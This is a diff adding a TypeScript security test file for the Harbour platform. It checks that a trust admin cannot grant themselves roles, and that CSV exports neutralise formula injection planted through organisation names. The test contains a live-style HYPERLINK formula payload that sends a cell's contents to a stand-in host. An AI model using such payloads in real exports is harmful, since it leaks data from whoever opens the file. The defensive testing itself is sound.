@@ -1,0 +1,89 @@
+import { Client } from 'pg';
+import { demoData } from '@harbour/demo';
+import { DEMO_ACCOUNTS, postGraphQL, signInAs, startTestPlatform, type TestPlatform } from '../support/platform';
+
+/**
+ * Harbour's promises against its own users: each attack issue 12 found, tried as an insider
+ * would (a trust's admin with the demo's accounts), through the gateway.
+ */
+let platform: TestPlatform;
+let owner: Client;
+const demo = demoData();
+const trust = demo.organisations.find((o) => o.kind === 'trust' && o.name.startsWith('Northmoor'))!;
+
+beforeAll(async () => {
+  platform = await startTestPlatform();
+  owner = new Client({ connectionString: platform.database.ownerUrl });
+  await owner.connect();
+}, 120_000);
+
+afterAll(async () => {
+  await owner?.end();
+  await platform?.stop();
+});
+
+const FORMULA = /^[=+\-@\t\r]/;
+
+/** Every cell of a CSV (quoted cells unquoted), good enough for the files Harbour writes. */
+function cellsOf(csv: string): string[] {
+  const cells: string[] = [];
+  for (const match of csv.matchAll(/("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/g)) {
+    const raw = match[1]!;
+    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+    if (match[2] === '') break;
+  }
+  return cells;
+}
+
+describe('a trust admin against their own trust', () => {
+  it('cannot give their own account a researcher grant, nor any grant, so takes no raw rows away', async () => {
+    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
+    for (const role of ['RESEARCHER', 'EVALUATOR', 'TRUST_ADMIN']) {
+      const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "${DEMO_ACCOUNTS.northmoorAdmin}", organisationId: "${trust.id}", role: ${role} }) { id } }`, admin);
+      expect(granted.body.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'SELF_GRANT' });
+    }
+    const history = demo.history.find((h) => h.tenantId === trust.id)!;
+    const again = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
+    const raw = await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: again });
+    expect(raw.status).toBe(403);
+    const grants = await owner.query(`SELECT g.role FROM directory.access_grant g JOIN directory.account a ON a.id = g.account_id WHERE a.email = $1`, [DEMO_ACCOUNTS.northmoorAdmin]);
+    expect(grants.rows).toEqual([{ role: 'trust_admin' }]);
+  });
+
+  it('cannot plant a live formula in an export by naming an organisation', async () => {
+    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
+    const planted = '=HYPERLINK("http://127.0.0.1:5999/?leak="&A2,"Open")';
+    const rename = async (id: string, name: string) => {
+      const response = await fetch(platform.gatewayUrl, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...admin },
+        body: JSON.stringify({ query: `mutation ($name: String!) { updateOrganisation(input: { id: "${id}", name: $name }) { name } }`, variables: { name } }),
+      });
+      expect(((await response.json()) as { data: { updateOrganisation: { name: string } } }).data.updateOrganisation.name).toBe(name);
+    };
+    // A service the trust's breakdown lists, and the team most responses were answered from.
+    const service = demo.organisations.find((o) => o.name === 'Community Mental Health Service')!;
+    await rename(service.id, planted);
+    const busiest = await owner.query(`SELECT organisation_id AS id FROM responses.response WHERE tenant_id = $1 GROUP BY 1 ORDER BY count(*) DESC LIMIT 1`, [trust.id]);
+    await rename(busiest.rows[0].id, `+${planted}`);
+
+    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
+    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
+    const csv = await (await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}&table=breakdown&by=ORGANISATION`, { headers: evaluator })).text();
+    const cells = cellsOf(csv);
+    expect(cells).toContain(`'${planted}`);
+    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
+
+    // The same name in raw rows, for a researcher (granted by a platform admin).
+    const platformAdmin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.platformAdmin);
+    await postGraphQL(platform.gatewayUrl, 'mutation { createAccount(input: { email: "insider.researcher@northmoor.example", displayName: "R", password: "a long password 43" }) { id } }', platformAdmin);
+    const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "insider.researcher@northmoor.example", organisationId: "${trust.id}", role: RESEARCHER }) { id } }`, platformAdmin);
+    expect(granted.body.errors).toBeUndefined();
+    const researcher = await signInAs(platform.gatewayUrl, 'insider.researcher@northmoor.example', 'a long password 43');
+    const history = demo.history.find((h) => h.tenantId === trust.id)!;
+    const rows = await (await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: researcher })).text();
+    const rawCells = cellsOf(rows);
+    expect(rawCells).toContain(`'+${planted}`);
+    expect(rawCells.filter((c) => FORMULA.test(c))).toEqual([]);
+  });
+});
